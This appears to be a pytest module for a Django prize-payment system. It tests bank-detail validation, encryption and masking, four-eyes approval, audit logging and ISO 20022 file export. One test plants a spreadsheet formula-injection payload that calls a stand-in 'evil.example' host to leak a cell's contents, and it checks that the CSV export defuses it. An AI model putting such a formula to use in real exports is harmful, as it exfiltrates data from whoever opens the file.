"""Prize payments: bank details encrypted, masked and read only by finance (every read logged),
the four-eyes path, and the bank file checked against the ISO 20022 schema."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.core import mail
from django.db import connection
from django.urls import reverse
from lxml import etree

from laurel.core.models import AuditEntry
from laurel.laureates import exports, services
from laurel.laureates.models import BankAccount, Contact, Payment
from tests.conftest import enrol_totp, sign_in
from tests.factories import UserFactory
from tests.laureates import prize_helpers
from tests.laureates.prize_helpers import IBAN, PROOF, approved_payment, details, finance

# Fixtures these tests share with other modules.
laureate = prize_helpers.laureate


@pytest.mark.parametrize(
    ("changes", "field", "message"),
    [
        ({"iban": "SE4550000000058398257467"}, "iban", "not a valid IBAN"),
        ({"holder": "Anna Andersson"}, "holder", "must be the organisation itself"),
        ({"bic": "COBADEFFXXX"}, "bic", "another country"),
        ({"iban": "DE89370400440532013000"}, "iban", "another country"),
        ({"iban": "", "account_number": ""}, "iban", "Give the IBAN"),
        (
            {"iban": "", "account_number": "123456", "bic": ""},
            "bic",
            r"BIC \(SWIFT code\) is needed",
        ),
    ],
)
def test_bad_bank_details_are_refused_with_the_field_and_nothing_saved(
    laureate, changes, field, message
):
    with pytest.raises(services.PrizeError, match=message) as refused:
        services.save_bank_details(
            laureate, details=details(**changes), proof=PROOF, proof_kind="pdf", actor=None
        )

    assert refused.value.field == field
    assert BankAccount.objects.count() == 0


def test_bank_details_are_encrypted_at_rest_masked_and_announced_to_every_contact(
    laureate, run_tasks
):
    account = services.save_bank_details(
        laureate, details=details(holder="Stiftelsen Trygga Nätet"), proof=PROOF,
        proof_kind="pdf", actor=None,
    )  # fmt: skip
    run_tasks()

    with connection.cursor() as cursor:
        cursor.execute("SELECT iban, holder, bic FROM laureates_bankaccount")
        stored = " ".join(cursor.fetchone())
    assert IBAN not in stored and "Trygga" not in stored and "ESSESESS" not in stored
    assert BankAccount.objects.get().iban == IBAN
    assert account.masked == "SE •••• 7466"
    assert sorted(m.to[0] for m in mail.outbox) == ["board@trygga.se", "office@trygga.se"]
    assert all(IBAN not in m.body and "7466" in m.body for m in mail.outbox)
    swedish = next(m for m in mail.outbox if m.to == ["office@trygga.se"])
    assert swedish.subject == "Era bankuppgifter för prissumman har ändrats"


def test_four_eyes_from_request_to_paid(laureate):
    first, second = finance("f1@example.org"), finance("f2@example.org")
    services.save_bank_details(
        laureate, details=details(), proof=PROOF, proof_kind="pdf", actor=None
    )

    payment = services.request_payment(laureate, actor=first)
    services.verify_payment(
        payment, actor=first, account=services.current_account(payment.laureate).pk
    )
    with pytest.raises(services.PrizeError, match="another finance user must approve"):
        services.approve_payment(payment, actor=first)
    services.approve_payment(payment, actor=second)
    services.mark_paid(
        payment, paid_on=date(2022, 3, 10), fees=Decimal("25.00"), exchange_rate=None,
        actor=first,
    )  # fmt: skip

    payment.refresh_from_db()
    assert (payment.state, payment.amount, payment.currency) == ("paid", Decimal("100000"), "SEK")
    assert (payment.requested_by, payment.verified_by, payment.approved_by) == (
        first,
        first,
        second,
    )
    assert [
        e.key for e in AuditEntry.objects.filter(key__startswith="payment.").order_by("id")
    ] == [
        "payment.requested",
        "payment.verified",
        "payment.approved",
        "payment.paid",
    ]


def test_new_bank_details_send_an_unpaid_payment_back_to_verification(laureate):
    first, payment = approved_payment(laureate)

    services.save_bank_details(
        laureate, details=details(iban="SE3550000000054910000003"), proof=PROOF, proof_kind="pdf",
        actor=None,
    )  # fmt: skip

    payment.refresh_from_db()
    assert (payment.state, payment.account) == ("requested", None)
    assert BankAccount.objects.filter(replaced_at=None).get().iban == "SE3550000000054910000003"
    with pytest.raises(services.PrizeError, match="cannot move"):
        services.mark_paid(
            payment, paid_on=date(2022, 3, 10), fees=None, exchange_rate=None, actor=first
        )


def test_finance_is_told_when_new_bank_details_send_a_payment_back(laureate, run_tasks):
    """A helper's attack: the payment went back quietly (only the laureate's contacts were
    told), and kept the names of who had checked and approved the old details."""
    _first, payment = approved_payment(laureate)
    run_tasks()
    mail.outbox.clear()

    services.save_bank_details(
        laureate, details=details(iban="SE3550000000054910000003"), proof=PROOF, proof_kind="pdf",
        actor=None,
    )  # fmt: skip
    run_tasks()

    payment.refresh_from_db()
    assert (payment.verified_by, payment.approved_by) == (None, None)
    told = {m.to[0]: m for m in mail.outbox if m.subject.startswith("Payment")}
    assert set(told) == {"f1@example.org", "f2@example.org"}
    message = told["f1@example.org"]
    assert message.subject == f"Payment {payment.reference} is back to be checked: new bank details"
    assert f"/en/staff/prizes/{payment.pk}/" in message.body
    assert "Trygga Nätet sent new bank details (the account ends SE" in message.body
    assert "3550000000054910000003" not in message.body  # the account masked only


def test_only_finance_reads_the_details_and_every_read_is_logged(laureate, staff_user):
    account = services.save_bank_details(
        laureate, details=details(), proof=PROOF, proof_kind="pdf", actor=None
    )
    reader = finance("f1@example.org")

    with pytest.raises(services.PrizeError, match="Only finance"):
        services.reveal_account(account, actor=staff_user)
    services.reveal_account(account, actor=reader)
    proof = services.proof_of(account, actor=reader)

    assert proof == PROOF
    assert list(
        AuditEntry.objects.filter(key__startswith="bank_account.r").values_list("key", "actor")
    ) == [("bank_account.revealed", reader.pk)]
    assert AuditEntry.objects.filter(key="bank_account.proof_read", actor=reader).count() == 1


def test_the_bank_file_is_valid_pain001_and_its_reading_logged(laureate, settings):
    settings.PRIZE_DEBTOR = {
        "name": "Child10",
        "iban": "SE3550000000054910000003",
        "bic": "ESSESESS",
    }
    first, payment = approved_payment(laureate)

    content = exports.approved_file(
        [Payment.objects.select_related("account").get()],
        actor=first,
        execution_date=date(2022, 3, 15),
    )

    document = etree.fromstring(content)
    assert exports.schema().validate(document)
    ns = {"p": exports.NS}
    assert document.findtext(".//p:CdtrAcct/p:Id/p:IBAN", namespaces=ns) == IBAN
    assert document.find(".//p:InstdAmt", ns).attrib == {"Ccy": "SEK"}
    assert document.findtext(".//p:InstdAmt", namespaces=ns) == "100000.00"
    assert document.findtext(".//p:Cdtr/p:Nm", namespaces=ns) == "Trygga Natet"
    assert AuditEntry.objects.get(key="payments.exported").data["payments"] == [payment.pk]


def test_a_file_the_schema_would_refuse_is_never_made(laureate, settings):
    settings.PRIZE_DEBTOR = {"name": "Child10", "iban": "not an iban", "bic": "ESSESESS"}
    first, _payment = approved_payment(laureate)

    with pytest.raises(etree.DocumentInvalid):
        exports.approved_file(
            [Payment.objects.select_related("account").get()], actor=first,
            execution_date=date(2022, 3, 15),
        )  # fmt: skip
    assert AuditEntry.objects.filter(key="payments.exported").count() == 0


def test_the_csv_shows_masked_accounts_only(laureate, staff_client):
    services.save_bank_details(
        laureate, details=details(), proof=PROOF, proof_kind="pdf", actor=None
    )
    reader = finance("f1@example.org")
    services.verify_payment(
        services.request_payment(laureate, actor=reader),
        actor=reader,
        account=services.current_account(laureate).pk,
    )

    body = staff_client.get(reverse("laureates:payments_csv")).content.decode()

    assert "SE •••• 7466" in body
    assert IBAN not in body


def test_a_laureate_name_reaches_the_prize_list_as_text(laureate, staff_client):
    formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
    laureate.candidate.name = formula
    laureate.candidate.save(update_fields=["name"])
    reader = finance("f1@example.org")
    services.request_payment(laureate, actor=reader)

    response = staff_client.get(reverse("laureates:payments_csv"))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + formula
    assert response["Cache-Control"] == "no-store, private"


def test_staff_see_masked_details_and_cannot_reveal_them(laureate, staff_client):
    services.save_bank_details(
        laureate, details=details(), proof=PROOF, proof_kind="pdf", actor=None
    )
    payment = services.request_payment(laureate, actor=finance("f1@example.org"))

    page = staff_client.get(reverse("laureates:payment", args=[payment.pk])).content.decode()
    reveal = staff_client.post(reverse("laureates:reveal", args=[payment.pk]))
    proof = staff_client.get(reverse("laureates:proof", args=[payment.pk]))

    assert "SE •••• 7466" in page and IBAN not in page
    assert (reveal.status_code, proof.status_code) == (404, 404)


def finance_reads_a_payment(laureate, client):
    """Bank details given, a payment requested by finance, who is signed in: (finance, payment)."""
    services.save_bank_details(
        laureate, details=details(), proof=PROOF, proof_kind="pdf", actor=None
    )
    reader = finance("f1@example.org")
    payment = services.request_payment(laureate, actor=reader)
    sign_in(client, reader)
    return reader, payment


def test_the_bank_proof_and_the_payment_page_are_never_stored(laureate, client):
    _reader, payment = finance_reads_a_payment(laureate, client)

    proof = client.get(reverse("laureates:proof", args=[payment.pk]))
    page = client.get(reverse("laureates:payment", args=[payment.pk]))

    assert proof.content == PROOF
    assert page.status_code == 200
    for response in (proof, page):
        assert "no-store" in response["Cache-Control"]
        assert "private" in response["Cache-Control"]


def test_finance_reveals_the_details_on_the_page_and_it_is_logged(laureate, client):
    reader, payment = finance_reads_a_payment(laureate, client)

    page = client.post(reverse("laureates:reveal", args=[payment.pk])).content.decode()

    assert "SE45 5000 0000 0583 9825 7466" in page  # grouped in fours, as banks print it
    assert AuditEntry.objects.filter(key="bank_account.revealed", actor=reader).count() == 1


def test_the_contact_gives_details_after_a_code_from_the_authenticator_app(
    laureate, client, run_tasks
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from laurel.accounts.models import RoleGrant
    from tests.scenarios import totp_code

    contact = UserFactory(email="office@trygga.se")
    RoleGrant.objects.create(user=contact, role="laureate_contact", cycle=laureate.cycle)
    Contact.objects.filter(laureate=laureate, email=contact.email).update(user=contact)
    secret = enrol_totp(contact)
    client.force_login(contact)
    url = reverse("laureates:bank")

    first = client.get(url)
    client.post(reverse("mfa_reauthenticate"), {"code": totp_code(secret)})
    page = client.get(url)
    bad = client.post(url, {
        "holder": "Trygga Nätet", "country": "SE", "iban": "SE45 5000 0000 0583 9825 7467",
        "bic": "ESSESESS", "bank_name": "SEB", "bank_address": "Stockholm",
        "proof": SimpleUploadedFile("statement.pdf", PROOF),
    })  # fmt: skip
    good = client.post(url, {
        "holder": "Trygga Nätet", "country": "SE", "iban": "SE45 5000 0000 0583 9825 7466",
        "bic": "esse sess", "bank_name": "SEB", "bank_address": "Stockholm",
        "proof": SimpleUploadedFile("statement.pdf", PROOF),
    })  # fmt: skip

    assert first.url.startswith(reverse("mfa_reauthenticate"))
    assert page.status_code == 200
    assert bad.status_code == 400
    assert "not a valid IBAN" in bad.content.decode()
    assert 'value="Trygga Nätet"' in bad.content.decode()  # what was typed is kept
    assert good.status_code == 302
    assert BankAccount.objects.get().bic == "ESSESESS"
